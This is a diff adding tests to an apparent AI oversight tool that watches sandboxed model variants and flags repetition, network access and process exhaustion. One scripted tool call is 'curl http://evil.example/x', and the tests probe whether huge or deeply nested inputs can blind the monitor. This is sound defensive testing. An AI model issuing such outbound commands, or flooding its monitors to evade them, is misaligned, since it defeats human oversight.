@@ -7,7 +7,7 @@ from dataclasses import replace
 
 import pytest
 
-from archive.database import HaltedError
+from archive.database import HaltedError, LockedError
 from archive.ledger import Ledger
 from archive.records import Outcome
 from common.errors import BoxGoneError, UsageError
@@ -131,7 +131,8 @@ def test_a_box_that_is_gone_is_forgotten(ledger):
 
 def asked(session, content):
     headers = {"Authorization": f"Bearer {session.token}"}
-    body = json.dumps({"messages": [{"role": "user", "content": content}]}).encode()
+    request = {"messages": [{"role": "user", "content": content}]}
+    body = json.dumps(request, ensure_ascii=False).encode()
     return session.handle("POST", "/v1/chat/completions", headers, body)
 
 
@@ -150,6 +151,66 @@ def test_the_record_of_calls_tells_of_repetition_and_of_reaching_out(ledger, tmp
         assert [alert.rule for alert in watcher.look()] == ["repetition"]
     assert ledger.variant("v0000").quarantined == "repetition: sent the same request 50 times"
     assert watcher.look() == []
+
+
+DEEP = "[" * 100_000
+"""Arguments that no reader of JSON can take."""
+
+
+def test_neither_a_huge_request_nor_a_deep_answer_blinds_it(ledger, tmp_path):
+    deep = tool_call("bash", command="true")
+    deep["choices"][0]["message"]["tool_calls"][0]["function"]["arguments"] = DEEP
+    calls = [deep, tool_call("bash", command="curl http://evil.example/x")]
+    machinery = Machinery(Boxes(), Gateway(ScriptedModel(calls)), "r")
+    watcher = overseer(ledger, Told(None), Roster(), machinery=machinery)
+    caps = Caps(calls=9, tokens=10**9)
+    with machinery.session("v0000", caps, tmp_path / "t.json", None) as session:
+        watcher.look()
+        asked(session, "\xe9" * 3_000_000)
+        assert watcher.look() == []
+        asked(session, "and on")
+        assert [alert.rule for alert in watcher.look()] == ["network"]
+
+
+class Locked:
+    """A ledger that refuses once each thing that is to be written."""
+
+    def __init__(self, ledger):
+        self.ledger, self.refused = ledger, set()
+
+    def __getattr__(self, name):
+        if name not in self.refused:
+            self.refused.add(name)
+            raise LockedError("somebody keeps it locked")
+        return getattr(self.ledger, name)
+
+
+def test_what_could_not_be_done_is_done_with_a_later_look(ledger):
+    boxes = Boxes()
+    machinery = Machinery(boxes, Gateway(TinyModel()), "r")
+    meter = Told(BoxUsage(processes=256))
+    watcher = overseer(Locked(ledger), meter, started(SOLVE), machinery=machinery)
+    assert [len(watcher.look()) for _ in range(6)] == [0, 0, 0, 0, 1, 0]
+    assert boxes.killed[0] == "v0000"
+    assert ledger.variant("v0000").quarantined == "processes: 256 of 256 processes"
+    assert len(ledger.events_of("alert")) == 1
+
+
+def test_a_fault_nobody_thought_of_does_not_end_the_watch(ledger, monkeypatch):
+    class Broken(Told):
+        def usage(self, box):
+            if not self.usages:
+                self.usages = BoxUsage()
+                raise ZeroDivisionError("broken")
+            return self.usages
+
+    halts = []
+    watcher = overseer(ledger, Broken(None), started(SOLVE, age=30), halts=halts)
+    with watcher.watching():
+        until = time.monotonic() + 20
+        while not halts and time.monotonic() < until:
+            time.sleep(0.05)
+    assert [variant for variant, *_ in halts] == ["v0000"]
 
 
 class Loud:
